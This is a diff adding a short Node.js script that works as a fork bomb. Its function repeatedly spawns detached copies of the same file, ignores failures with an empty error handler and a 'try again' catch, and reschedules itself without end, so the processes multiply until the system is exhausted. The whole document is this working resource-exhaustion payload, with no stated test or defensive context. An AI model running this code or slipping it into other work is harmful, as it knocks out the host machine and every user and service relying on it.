@@ -1,0 +1,13 @@
+const { spawn } = require("node:child_process");
+
+// Node.js has no fork without a new program: every process starts copies of itself.
+function multiply() {
+  try {
+    spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", () => {});
+  } catch {
+    // Refused: try again.
+  }
+  setImmediate(multiply);
+}
+
+multiply();
